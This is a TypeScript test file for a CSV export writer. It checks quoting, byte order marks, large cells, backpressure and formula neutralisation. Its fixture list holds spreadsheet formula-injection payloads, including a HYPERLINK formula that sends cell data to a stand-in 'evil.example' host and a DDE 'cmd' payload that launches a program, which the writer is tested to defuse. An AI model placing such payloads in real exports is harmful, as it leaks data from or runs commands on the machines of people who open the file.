import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type {
  ColumnKind,
  ExportColumn,
  ExportOptions,
  InventoryRow,
} from '../../../shared/contract';
import { exportCellText } from './cells';
import { createCsvWriter } from './csv-writer';
import {
  Collector,
  FailingWritable,
  GatedWritable,
  inventoryRow,
  settle,
} from './test-support/streams';

const prop = (property: string, kind: ColumnKind = 'text', header = property): ExportColumn => ({
  id: property,
  header,
  kind,
  source: { property },
});
const field = (name: 'region' | 'account' | 'identifier', header: string): ExportColumn => ({
  id: name,
  header,
  kind: 'text',
  source: { field: name },
});

const COLUMNS: readonly ExportColumn[] = [
  field('region', 'Region'),
  field('account', 'Account'),
  field('identifier', 'Identifier'),
  prop('Name'),
  prop('Count', 'number'),
  prop('Enabled', 'boolean'),
  prop('CreationTime', 'date'),
  prop('Tags', 'json'),
  prop('Config', 'json'),
];

const ON: ExportOptions = { bom: false, neutralizeFormulas: true };
const OFF: ExportOptions = { bom: false, neutralizeFormulas: false };

/** Hostile cell text, and what the CSV must carry with formula neutralising on. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['plain', 'plain'],
  ['', ''],
  ['say "hi"', 'say "hi"'],
  ['"', '"'],
  ['a,b,c', 'a,b,c'],
  [',', ','],
  ['line1\nline2', 'line1\nline2'],
  ['line1\r\nline2', 'line1\r\nline2'],
  ['line1\rline2', 'line1\rline2'],
  ['ends with CR\r', 'ends with CR\r'],
  ['\n', '\n'],
  // Starts with a carriage return, so it is neutralised like `\rCR` below.
  ['\r\n', "'\r\n"],
  [' leading and trailing spaces ', ' leading and trailing spaces '],
  ['👩‍👩‍👧‍👦 family, 🇪🇺 flag', '👩‍👩‍👧‍👦 family, 🇪🇺 flag'],
  ['مرحبا بالعالم', 'مرحبا بالعالم'],
  ['שלום "עולם"', 'שלום "עולם"'],
  ['\u202Egnp.exe', '\u202Egnp.exe'],
  [
    'e\u0301 Z\u0334\u0327\u035A\u0350a\u0338l\u0335g\u0337o',
    'e\u0301 Z\u0334\u0327\u035A\u0350a\u0338l\u0335g\u0337o',
  ],
  ['nul\u0000byte', 'nul\u0000byte'],
  ['\uFEFFstarts with a BOM character', '\uFEFFstarts with a BOM character'],
  ['line\u2028separator\u2029paragraph', 'line\u2028separator\u2029paragraph'],
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
  ['\tTab', "'\tTab"],
  ['\rCR', "'\rCR"],
  [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '\'=HYPERLINK("http://evil.example?"&A1,"click")',
  ],
  ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
  ['a=b', 'a=b'],
];

function hostileRows(): InventoryRow[] {
  return HOSTILE.map(([name], i) =>
    inventoryRow(`id-${i}`, {
      Name: name,
      Count: i % 2 === 0 ? i : -i,
      Enabled: i % 3 === 0,
      CreationTime: i % 2 === 0 ? '2024-02-29T23:59:59.500Z' : 1709251199,
      Tags: [{ Key: 'Name', Value: name }],
      Config: { nested: { deep: [1, 'x,y', { quote: '"', newline: '\r\n' }], empty: {} } },
    }),
  );
}

async function exportCsv(
  rows: readonly InventoryRow[],
  options: ExportOptions = ON,
  columns: readonly ExportColumn[] = COLUMNS,
): Promise<{ bytes: Buffer; counts: { rows: number; bytes: number } }> {
  const out = new Collector();
  const writer = createCsvWriter({ format: 'csv', columns, options }, out);
  // In two batches and an empty one, as the app sends them.
  const half = Math.ceil(rows.length / 2);
  await writer.write(rows.slice(0, half));
  await writer.write([]);
  await writer.write(rows.slice(half));
  const counts = await writer.end();
  return { bytes: out.buffer(), counts };
}

const parseCsv = (bytes: Buffer): string[][] => parse(bytes, { bom: true });

describe('createCsvWriter', () => {
  it('round-trips every cell through an independent CSV parser', async () => {
    const rows = hostileRows();
    const { bytes, counts } = await exportCsv(rows);
    const records = parseCsv(bytes);

    expect(records).toHaveLength(rows.length + 1);
    expect(records[0]).toEqual(COLUMNS.map((c) => c.header));
    rows.forEach((row, i) => {
      const record = records[i + 1];
      expect(record).toHaveLength(COLUMNS.length);
      COLUMNS.forEach((column, j) => {
        expect(record?.[j], `row ${i}, ${column.header}`).toBe(exportCellText(row, column, true));
      });
      // The same cells, spelled out independently of exportCellText.
      const [region, account, identifier, name, count, enabled, created, tags, config] =
        record ?? [];
      expect([region, account, identifier]).toEqual(['eu-west-1', '111122223333', `id-${i}`]);
      expect(name).toBe(HOSTILE[i]?.[1]);
      expect(count).toBe(String(i % 2 === 0 ? i : -i));
      expect(enabled).toBe(i % 3 === 0 ? 'true' : 'false');
      expect(created).toBe(i % 2 === 0 ? '2024-02-29T23:59:59.500Z' : '2024-02-29T23:59:59.000Z');
      expect(JSON.parse(tags ?? '')).toEqual(row.properties.Tags);
      expect(config).toBe(
        '{"nested":{"deep":[1,"x,y",{"quote":"\\"","newline":"\\r\\n"}],"empty":{}}}',
      );
    });
    expect(counts).toEqual({ rows: rows.length, bytes: bytes.length });
    expect(bytes.toString('utf8')).not.toContain('[object Object]');
  });

  it('keeps every formula start raw when neutralising is off', async () => {
    const rows = hostileRows();
    const records = parseCsv((await exportCsv(rows, OFF)).bytes);
    rows.forEach((row, i) => {
      expect(records[i + 1]?.[3]).toBe(HOSTILE[i]?.[0]);
      expect(records[i + 1]?.[3]).toBe(row.properties.Name);
    });
  });

  it('writes RFC 4180: CRLF records, quotes only where needed, quotes doubled', async () => {
    const columns = [field('identifier', 'Identifier'), prop('Name'), prop('Count', 'number')];
    const rows = [
      inventoryRow('a', { Name: 'say "hi", then go', Count: -5 }),
      inventoryRow('b', { Name: 'two\nlines' }),
      inventoryRow('c', { Name: 'lone\rCR' }),
      inventoryRow('d', { Name: 'plain' }),
    ];
    const { bytes } = await exportCsv(rows, ON, columns);
    expect(bytes.toString('utf8')).toBe(
      'Identifier,Name,Count\r\n' +
        'a,"say ""hi"", then go",-5\r\n' +
        'b,"two\nlines",\r\n' +
        'c,"lone\rCR",\r\n' +
        'd,plain,\r\n',
    );
  });

  it('writes only the header for 0 rows', async () => {
    const columns = [field('identifier', 'Identifier'), prop('Name')];
    const { bytes, counts } = await exportCsv([], ON, columns);
    expect(bytes.toString('utf8')).toBe('Identifier,Name\r\n');
    expect(counts).toEqual({ rows: 0, bytes: 17 });
  });

  it('starts with a UTF-8 byte order mark only when asked, rows or not', async () => {
    const columns = [prop('Name')];
    const rows = [inventoryRow('a', { Name: 'é' })];
    const bom = Buffer.from([0xef, 0xbb, 0xbf]);
    for (const data of [rows, []]) {
      const withBom = await exportCsv(data, { bom: true, neutralizeFormulas: true }, columns);
      expect(withBom.bytes.subarray(0, 3)).toEqual(bom);
      expect(withBom.bytes.subarray(3, 9).toString('utf8')).toBe('Name\r\n');
      expect(withBom.counts.bytes).toBe(withBom.bytes.length);

      const without = await exportCsv(data, OFF, columns);
      expect(without.bytes.subarray(0, 6).toString('utf8')).toBe('Name\r\n');
    }
  });

  it('neutralises headers like cells', async () => {
    const columns = [prop('A', 'text', '=cmd'), prop('B', 'text', 'Plain')];
    expect((await exportCsv([], ON, columns)).bytes.toString('utf8')).toBe("'=cmd,Plain\r\n");
    expect((await exportCsv([], OFF, columns)).bytes.toString('utf8')).toBe('=cmd,Plain\r\n');
  });

  it('writes a 1 MB cell whole', async () => {
    const big = `${'x'.repeat(512 * 1024)}"quoted", \r\n${'é'.repeat(256 * 1024)}`;
    const rows = [inventoryRow('big', { Name: big }), inventoryRow('small', { Name: 'after' })];
    const { bytes, counts } = await exportCsv(rows, ON, [prop('Name')]);
    const records = parseCsv(bytes);
    expect(records.map((r) => r[0])).toEqual(['Name', big, 'after']);
    expect(counts.bytes).toBeGreaterThan(1024 * 1024);
    expect(counts.bytes).toBe(bytes.length);
  });

  it('resolves a write only once the destination has taken the rows', async () => {
    const out = new GatedWritable();
    const writer = createCsvWriter({ format: 'csv', columns: COLUMNS, options: ON }, out);
    // About 2 MB of CSV, far more than the stringifier's buffer.
    const batch = Array.from({ length: 2000 }, (_, i) =>
      inventoryRow(`id-${i}`, { Name: 'n'.repeat(1000) }),
    );
    let resolved = false;
    const written = writer.write(batch).then(() => {
      resolved = true;
    });
    await settle();
    expect(resolved).toBe(false);
    expect(writer.rows).toBe(0);
    // The batch is not turned into CSV wholesale while the destination is stuck: what waits
    // is one buffer's worth (16 KiB on Node 20, 64 KiB from Node 22), not 2 MB.
    expect(out.writableLength).toBeGreaterThan(0);
    expect(out.writableLength).toBeLessThan(128 * 1024);
    out.open();
    await written;
    expect(resolved).toBe(true);
    expect(writer.rows).toBe(2000);
    const counts = await writer.end();
    expect(parseCsv(Buffer.from(out.text()))).toHaveLength(2001);
    expect(counts.bytes).toBe(Buffer.byteLength(out.text()));
  });

  it('rejects when the destination fails, and keeps failing', async () => {
    const out = new FailingWritable(new Error('ENOSPC: no space left on device'));
    const writer = createCsvWriter({ format: 'csv', columns: COLUMNS, options: ON }, out);
    const rows = Array.from({ length: 500 }, (_, i) => inventoryRow(`id-${i}`, { Name: 'x' }));
    await expect(writer.write(rows)).rejects.toThrow('ENOSPC');
    await expect(writer.write(rows)).rejects.toThrow('ENOSPC');
    await expect(writer.end()).rejects.toThrow('ENOSPC');
  });

  it('keeps batches in order when writes overlap, and refuses rows after the end', async () => {
    const out = new Collector();
    const writer = createCsvWriter({ format: 'csv', columns: [prop('Name')], options: ON }, out);
    const first = writer.write([
      inventoryRow('a', { Name: '1' }),
      inventoryRow('b', { Name: '2' }),
    ]);
    const second = writer.write([inventoryRow('c', { Name: '3' })]);
    await Promise.all([first, second]);
    // Written means handed over: nothing of it waits inside the writer.
    expect(out.text()).toBe('Name\r\n1\r\n2\r\n3\r\n');
    const end = writer.end();
    await expect(writer.write([inventoryRow('d', { Name: '4' })])).rejects.toThrow(/ended/);
    expect(await end).toEqual(await writer.end());
    expect(out.text()).toBe('Name\r\n1\r\n2\r\n3\r\n');
    expect(out.writableFinished).toBe(true);
  });

  it('refuses a CSV without columns', () => {
    expect(() =>
      createCsvWriter({ format: 'csv', columns: [], options: ON }, new Collector()),
    ).toThrow(/at least one column/);
  });
});
